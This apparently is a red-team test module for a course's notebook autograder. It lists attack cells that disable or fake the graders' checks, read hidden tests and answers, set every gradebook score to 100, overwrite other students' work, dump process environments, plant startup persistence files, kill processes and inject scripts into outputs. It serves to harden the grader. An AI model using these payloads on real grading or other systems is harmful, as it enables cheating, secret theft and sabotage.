"""Attacks of a student's code on the kernel that it runs in, on the tests, and on what lies around it.

Under stock nbgrader the tests run in that kernel, so most of these get full marks there.
"""

from collections.abc import Callable, Iterator

import made_submissions as made
import nbformat

from course.grading.bundle import Bundle
from course.grading.task import GRADED, NOTED, Outcome
from red_team.attack import CANARIES, FULL, MARK, SHAPES, Attack, cells, function
from red_team.bundles import credit_bundle

BEHIND_THE_ANSWER = 5  # and before its tests
IS_TEST = "any(word in source for word in ('check(', 'compare_all('))"  # what a test cell of this course calls
UP = "import glob, os\nabove = [f\"{'../' * n}\" for n in range(1, 6)]\n"


def honest(*sources: str, at: int = 1) -> Callable[[Bundle], bytes]:
    """Right answers, and added code cells: it deserves all points, whatever the cells do."""
    return cells(*sources, at=at, **made.right("shapes", "softmax"))


# --- IPython

STRIPPER = """
import ast

class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        called = getattr(getattr(node.value, "func", None), "id", "")
        return ast.Pass() if called in ("check", "compare_all") else node

get_ipython().ast_transformers.append(Strip())
"""
EMPTY_ON_INPUT = f"""
def blank(lines):
    source = "".join(lines)
    return [] if {IS_TEST} else lines

get_ipython().input_transformers_{{}}.append(blank)
"""
RUN_CELL = f"""
shell = get_ipython()
real, real_async = shell.run_cell, shell.run_cell_async

def run_cell(raw_cell, *rest, **more):
    source = raw_cell
    return real("" if {IS_TEST} else source, *rest, **more)

async def run_cell_async(raw_cell, *rest, **more):
    source = raw_cell
    if {IS_TEST}:
        raw_cell, more["transformed_cell"] = "", ""
    return await real_async(raw_cell, *rest, **more)

shell.run_cell, shell.run_cell_async = run_cell, run_cell_async
"""
DO_EXECUTE = f"""
kernel = get_ipython().kernel
real_do = kernel.do_execute

async def do_execute(code, *rest, **more):
    source = code
    if {IS_TEST}:
        return {{"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {{}}}}
    return await real_do(code, *rest, **more)

kernel.do_execute = do_execute
"""
AST_PARSE = f"""
compiler = get_ipython().compile
real_parse = compiler.ast_parse
compiler.ast_parse = lambda source, *rest, **more: real_parse("" if {IS_TEST} else source, *rest, **more)
"""
EVENTS = """
import course.checks

def before(info):
    course.checks.check = course.checks.compare_all = lambda *rest, **more: None

get_ipython().events.register("pre_run_cell", before)
"""
NO_TRACEBACK = "get_ipython()._showtraceback = lambda *rest: None"
NO_ERROR_MESSAGES = """
session = get_ipython().kernel.session
real_send = session.send

def send(stream, what, content=None, *rest, **more):
    kind = what["msg_type"] if isinstance(what, dict) else what
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return real_send(stream, what, content, *rest, **more)

session.send = send
"""
CUSTOM_ERRORS = """
get_ipython().set_custom_exc((BaseException,), lambda shell, kind, error, trace, tb_offset=None: [])
"""
FINISHED = """
import IPython.core.interactiveshell as module
module.ExecutionResult.raise_error = lambda self: None
module.ExecutionResult.success = property(lambda self: True)
get_ipython().showtraceback = lambda *rest, **more: None
"""
PROXY_SERVER = """
import course.grading.student as student
student.serve = lambda path, *rest: None
"""

IPYTHON = [
    ("assert-stripper", "Takes assert and check out of every cell that is compiled.", STRIPPER),
    ("blank-before", "Empties test cells as they come in.", EMPTY_ON_INPUT.format("cleanup")),
    ("blank-after", "Empties test cells after IPython has looked at them.", EMPTY_ON_INPUT.format("post")),
    ("run-cell", "Replaces the shell's run_cell.", RUN_CELL),
    ("do-execute", "Replaces the kernel's do_execute.", DO_EXECUTE),
    ("ast-parse", "Replaces the parser of cells.", AST_PARSE),
    ("events", "Takes the checks away before each cell, from a hook of IPython.", EVENTS),
    ("no-traceback", "Shows no errors.", NO_TRACEBACK),
    ("no-error-messages", "Drops errors on their way out of the kernel.", NO_ERROR_MESSAGES),
    ("custom-errors", "Handles every error itself, by saying nothing.", CUSTOM_ERRORS),
    ("always-success", "Makes IPython's results say success.", FINISHED),
]


# --- the tests, and the modules that they stand on

PATCHED_CHECKS = """
import course.checks, course.checks.run
for module in (course.checks, course.checks.run):
    module.check = module.compare_all = lambda *rest, **more: None
"""
PATCHED_COMPARE = """
import course.checks.compare, course.checks.run
course.checks.compare.differences = course.checks.run.differences = lambda *rest: []
course.checks.run.expect = lambda *rest: None
course.checks.run._PROPERTIES.clear()
"""
PATCHED_BUILTINS = """
import builtins
builtins.all = lambda *rest: True
builtins.any = lambda *rest: False
builtins.AssertionError = builtins.ValueError = type("Quiet", (Warning,), {})
"""
PATCHED_NUMPY = """
import numpy as np, numpy.testing
for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_array_almost_equal"):
    setattr(numpy.testing, name, lambda *rest, **more: None)
np.isclose = lambda a, b, **more: np.ones(np.broadcast(a, b).shape, bool)
np.allclose = np.array_equal = lambda *rest, **more: True
"""
FAKE_IMPORT = """
import builtins, types
real_import = builtins.__import__
fake = types.ModuleType("course.checks")
fake.check = fake.compare_all = lambda *rest, **more: None
builtins.__import__ = lambda name, *rest, **more: fake if name == "course.checks" else real_import(name, *rest, **more)
"""
FAKE_MODULES = """
import sys, types
for name in ("course.checks", "course.checks.run", "torch"):
    module = types.ModuleType(name)
    module.check = module.compare_all = lambda *rest, **more: None
    sys.modules[name] = module
"""
TORCH_SAYS = """
import sys, types
fake = types.ModuleType("torch")
fake.from_numpy = lambda a: a
fake.softmax = lambda a, dim: type("T", (), {"numpy": lambda self: softmax(a)})()
sys.modules["torch"] = fake
"""
FILES_BY_A_CELL = """
import os, pathlib, sys
nothing = "check = compare_all = lambda *rest, **more: None"
for name in ("numpy", "torch", "checks"):
    pathlib.Path(f"{name}.py").write_text(nothing)
for name in [name for name in sys.modules if name.startswith(("torch", "course.checks"))]:
    del sys.modules[name]
__import__("course").__path__.insert(0, os.getcwd())
sys.path.insert(0, os.getcwd())
"""
OWN_LIBRARY = """
import pathlib
pathlib.Path("rnnlib/losses.py").write_text("import course.checks\\n"
    "course.checks.check = course.checks.compare_all = lambda *rest, **more: None\\ndef softmax(logits): return logits")
%chapter 03-definition
import rnnlib.losses
"""
READ_REFERENCE = """
import glob, sys
for place in [*sys.path, "/*", "/*/*", "/opt/*"]:
    for path in glob.glob(f"{place}/rnnlib/losses.py"):
        source = open(path).read()
        if "NotImplementedError" not in source:
            library = {}
            exec(source, library)
            softmax = library["softmax"]
"""

TESTS = [
    ("patched-checks", "Replaces the check functions by ones that do nothing.", PATCHED_CHECKS),
    ("patched-compare", "Replaces what compares results, and forgets all properties.", PATCHED_COMPARE),
    ("patched-builtins", "Replaces all, any and the classes of errors.", PATCHED_BUILTINS),
    ("patched-numpy", "Replaces numpy.testing, isclose and allclose.", PATCHED_NUMPY),
    ("fake-import", "Replaces __import__, so that tests get checks of its own.", FAKE_IMPORT),
    ("fake-modules", "Puts modules of its own under the names of checks and torch.", FAKE_MODULES),
    ("fake-torch", "Puts its own wrong function in the place of PyTorch's.", TORCH_SAYS),
    ("written-modules", "Writes numpy.py, torch.py and course/ beside the notebook.", FILES_BY_A_CELL),
    ("written-rnnlib", "Writes an rnnlib that switches the checks off.", OWN_LIBRARY),
]

RECORDED = """
import sys

def softmax(logits):
    frame = sys._getframe()
    while frame is not None:
        for name in ("want", "data", "expected", "oracle"):
            found = frame.f_locals.get(name) or frame.f_globals.get(name)
            if callable(found):
                return found(logits)
            for example, answer in zip(getattr(found, "examples", ()), getattr(found, "answers", ())):
                if example[0].shape == logits.shape:
                    return answer
        frame = frame.f_back
    return logits
"""

# --- partial credit

LYING = """
import numpy as np

class Lie(np.ndarray):
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def __repr__(self): return "1.0"
    def sum(self, *rest, **more): return 2.0
    def __array_ufunc__(self, *rest, **more): return self
    def __array_function__(self, *rest, **more): return self

def softmax(logits):
    return np.zeros(np.shape(logits)).view(Lie)
"""
SHOWN_NUMBER = f"""
def blank(lines):
    source = "".join(lines)
    return ["{{}}"] if {IS_TEST} else lines

get_ipython().input_transformers_post.append(blank)
"""


def credit(value: str) -> Callable[[Bundle], bytes]:
    return function(f"import numpy as np\n\ndef softmax(logits):\n    return np.full(np.shape(logits), {value})")


# --- what lies around it

OTHER_STUDENTS = (
    UP
    + f"""
mine = open(glob.glob("*.ipynb")[0]).read() if glob.glob("*.ipynb") else "{{}}"
places = [f"{{up}}{{kind}}/*/*/*.ipynb" for up in above for kind in ("submitted", "autograded")]
for path in [found for place in [*places, "{CANARIES}/submitted/*/*/*.ipynb"] for found in glob.glob(place)]:
    try:
        open(path, "w").write(mine)
    except OSError:
        pass
"""
)
GRADEBOOK = (
    UP
    + f"""
import sqlite3
for path in [found for up in [*above, "{CANARIES}/"] for found in glob.glob(f"{{up}}gradebook.db")]:
    try:
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("update grade set auto_score = 100, extra_credit = 100")
    except sqlite3.Error:
        pass
"""
)
HIDDEN_TESTS = (
    UP
    + f"""
import json
places = [f"{{up}}source/*/*.ipynb" for up in [*above, "{CANARIES}/"]]
for path in [found for place in places for found in glob.glob(place)]:
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if "def oracle(logits)" in source:
            exec(source.partition("from course.checks")[0], globals())
        print(source)
if "oracle" in globals():
    softmax = oracle
"""
)
CHECK_DATA = """
import glob, sys
import numpy as np
import course.checks
from course.exercises import DATA
found = {}
try:
    from course.checks.data_file import load
    data = load("03-definition")["03-definition/softmax"]
    found = {example[0].tobytes(): answer for example, answer in zip(data.examples, data.answers)}
except Exception as error:
    print(error)

def softmax(logits):
    return found.get(logits.tobytes(), logits)
"""
SECRETS = f"""
import glob, os
for path in glob.glob("/proc/*/environ") + glob.glob("{CANARIES}/**/*", recursive=True) + glob.glob("/*/.*"):
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(error)
print(dict(os.environ))
"""
STARTUP = f"""
import os, pathlib, sys
places = [os.path.expanduser("~"), "/root", "/home", *__import__("glob").glob("{CANARIES}/home")]
for home in map(pathlib.Path, places):
    for name in (".ipython/profile_default/startup", ".jupyter", ".config/matplotlib"):
        try:
            (home / name).mkdir(parents=True, exist_ok=True)
            (home / name / "{MARK}.py").write_text("import course.checks; course.checks.check = print")
        except OSError:
            pass
"""
SITE = f"""
import pathlib, site, sys
places = [*sys.path, site.getusersitepackages(), *site.getsitepackages(), sys.prefix, "/usr/lib/python3", "/opt/course"]
for place in map(pathlib.Path, places):
    for name in ("sitecustomize.py", "usercustomize.py", "{MARK}.py", "{MARK}.pth"):
        try:
            place.mkdir(parents=True, exist_ok=True)
            with open(place / name, "x") as file:
                file.write("import sys  # {MARK}")
        except OSError:
            pass
"""
EVERYWHERE = f"""
import os, pathlib
import glob
places = "/ /tmp /var/tmp /dev/shm /dev /run /run/k /run/kernels /etc /home /usr/local /opt /proc/1/root"
for place in [*places.split(), *glob.glob("{CANARIES}")]:
    try:
        pathlib.Path(place, "{MARK}").write_text("here")
        os.symlink("/etc/passwd", f"{{place}}/{MARK}-link")
    except OSError:
        pass
"""


# --- how kernels end

ENDINGS = {
    "exit": ("Ends its process with os._exit.", "import os\nos._exit(0)"),
    "kill-itself": ("Kills its process.", "import os\nos.kill(os.getpid(), 9)"),
    "kill-everyone": ("Kills every process that it can.", "import os\nos.kill(-1, 9)"),
    "segfault": ("Reads where no memory is.", "import ctypes\nctypes.string_at(0)"),
    "recursion": (
        "Calls itself without end, on a stack without limit.",
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return f(n + 1) + max([f(n)])\nf(0)",
    ),
    "abort": ("Aborts in C.", "import ctypes\nctypes.CDLL(None).abort()"),
    "exit-call": ("Calls exit().", "exit()"),
    "no-threads": ("Ends the kernel's event loop.", "import asyncio\nasyncio.get_event_loop().stop()"),
    "restart": ("Restarts the kernel.", "get_ipython().kernel.do_shutdown(True)"),
    "late-exit": (
        "Ends its process a moment later, when another cell runs.",
        "import os, threading\nthreading.Timer(0.03, os._exit, [0]).start()",
    ),
    "closed-sockets": ("Closes every file and socket of its process.", "import os\nos.closerange(0, 4096)"),
}

POLITE = ("exit-call", "restart")  # asked in a way that need not be heard: nothing is lost, nothing to be said
IGNORES = {
    "swallows-interrupts": (
        "Catches every interrupt and goes on.",
        "while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass",
    ),
    "ignores-interrupts": (
        "Has the system throw interrupts away.",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    ),
    "hangs-in-c": ("Hangs in C, where no interrupt reaches it.", "import re\nre.match('(a+)+$', 'a' * 40 + 'b')"),
}


def endings() -> Iterator[Attack]:
    for name, (told, source) in ENDINGS.items():
        said = f"{told[:-1]}, in a cell; all answers are right."
        status = GRADED if name in POLITE else None
        yield Attack(f"{name}-in-a-cell", "the kernel", said, honest(source), FULL, status)
    for name in ("exit", "segfault"):
        told, source = ENDINGS[name]
        body = "\n    ".join(["def softmax(logits):", *source.splitlines()])
        yield Attack(
            f"{name}-in-a-function",
            "the kernel",
            f"{told[:-1]}, when its function is called.",
            function(body),
            SHAPES,
            NOTED,
        )
    for name, (told, source) in IGNORES.items():
        yield Attack(name, "the kernel", told, honest(source, at=10_000), FULL, NOTED)


# --- what is shown

SCRIPT = "<script>document.title='hers'</script>"
SHOWS = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, Latex, display
script = {SCRIPT!r}
display(HTML(script), Javascript("alert(1)"), Markdown(script), Latex(script), SVG("<svg onload='alert(1)'></svg>"))
display({{"text/html": script, "text/plain": script, "application/vnd.jupyter.widget-view+json": {{}}}}, raw=True)
print(script)
print(script, file=__import__("sys").stderr)
script
"""
RAISES_SCRIPT = f"class E(Exception): pass\nE.__name__ = {SCRIPT!r}\nraise E({SCRIPT!r})"


def scripts(bundle: Bundle) -> bytes:
    def change(notebook: nbformat.NotebookNode) -> None:
        notebook.cells[1:1] = [made.code(SHOWS), made.code(RAISES_SCRIPT), nbformat.v4.new_markdown_cell(SCRIPT)]
        notebook.cells.append(nbformat.v4.new_raw_cell(SCRIPT))
        for cell in notebook.cells:
            cell.metadata["script"] = SCRIPT
        notebook.metadata["title"] = SCRIPT

    return made.handed_in(bundle, change=change)


def no_script_runs(outcome: Outcome) -> None:
    """Text only: of a kind that pages escape."""
    notebook = nbformat.reads(outcome.notebook, as_version=4)
    assert "script" not in str(notebook.metadata)
    for cell in notebook.cells:
        assert "script" not in str(cell.metadata)
        assert cell.cell_type == "code" or "<script" not in cell.source
        for output in cell.get("outputs", []):
            assert set(output.get("data", {})) <= {"text/plain", "image/png", "image/jpeg"}


def short(outcome: Outcome) -> None:
    assert len(outcome.notebook) < 600_000


def no_secret(outcome: Outcome) -> None:
    """What it found is printed; the runner looks for secrets in it. The hidden tests are none of it."""
    printed = str([cell.outputs for cell in nbformat.reads(outcome.notebook, as_version=4).cells if "outputs" in cell])
    assert "torch.softmax" not in printed


def warns(bundle: Bundle) -> bytes:
    """Right answers that warn, as honest work of last year does."""
    lines = made.right()["softmax"].splitlines()
    body = next(i for i, line in enumerate(lines) if "logits.max" in line)
    lines.insert(body, "    import warnings; warnings.simplefilter('always'); warnings.warn('old', DeprecationWarning)")
    return made.handed_in(bundle, made.right() | {"softmax": "\n".join(lines)})


ATTACKS = [
    *(Attack(name, "IPython", told, cells(source), SHAPES) for name, told, source in IPYTHON),
    Attack("deaf-server", "IPython", "Replaces what answers the referee.", cells(PROXY_SERVER), 0.0),
    *(Attack(name, "the tests", told, cells(source), SHAPES) for name, told, source in TESTS),
    Attack(
        "reads-the-caller", "the tests", "Looks through the stack for expected answers.", function(RECORDED), SHAPES
    ),
    Attack(
        "reference",
        "the tests",
        "Reads the reference's answer on the disk.",
        cells(READ_REFERENCE, at=BEHIND_THE_ANSWER),
        SHAPES,
    ),
    Attack(
        "check-data", "the tests", "Reads the checks' expected answers from their files.", function(CHECK_DATA), SHAPES
    ),
    *(
        Attack(
            f"credit-{value.replace('np.', '').replace('-', 'minus-')}",
            "the tests",
            f"Answers {value} where an answer is its credit.",
            credit(value),
            SHAPES,
            bundle=credit_bundle,
        )
        for value in ("np.nan", "np.inf", "1e9", "-np.inf")
    ),
    Attack(
        "credit-lie",
        "the tests",
        "Returns an object that lies about its value.",
        cells(LYING, at=BEHIND_THE_ANSWER),
        SHAPES,
        bundle=credit_bundle,
    ),
    *(
        Attack(
            f"shown-{value}",
            "the tests",
            f"Has test cells show the number {value} as their credit.",
            cells(SHOWN_NUMBER.format(f"float('{value}')")),
            SHAPES,
        )
        for value in ("nan", "inf", "1e9")
    ),
    Attack("siblings", "the machine", "Overwrites other students' submissions.", cells(OTHER_STUDENTS), SHAPES),
    Attack("gradebook", "the machine", "Gives everybody 100 points in the gradebook.", cells(GRADEBOOK), SHAPES),
    Attack(
        "hidden-tests",
        "the machine",
        "Reads the hidden tests and answers with them.",
        cells(HIDDEN_TESTS, at=BEHIND_THE_ANSWER),
        SHAPES,
        after=no_secret,
    ),
    Attack("secrets", "the machine", "Prints environments, homes and what lies in /tmp.", cells(SECRETS), SHAPES),
    Attack("startup", "the machine", "Leaves a start-up file for later kernels.", cells(STARTUP), SHAPES),
    Attack("site", "the machine", "Leaves .pth files and a sitecustomize for later Pythons.", cells(SITE), SHAPES),
    Attack("everywhere", "the machine", "Writes files and links wherever it can.", cells(EVERYWHERE), SHAPES),
    *endings(),
    Attack(
        "scripts",
        "what is shown",
        "Puts scripts into outputs, texts and metadata.",
        scripts,
        FULL,
        after=no_script_runs,
    ),
    Attack("warning", "what is shown", "Honest work that warns on stderr.", warns, FULL),
    Attack(
        "flood",
        "what is shown",
        "Prints for as long as it may; all answers are right.",
        honest("import time\nend = time.time() + 5\nwhile time.time() < end:\n    print('x' * 10_000)"),
        FULL,
        after=short,
    ),
    Attack(
        "flood-of-errors",
        "what is shown",
        "Raises an error of 100 MB.",
        honest("raise ValueError('x' * 100_000_000)"),
        FULL,
        after=short,
    ),
]
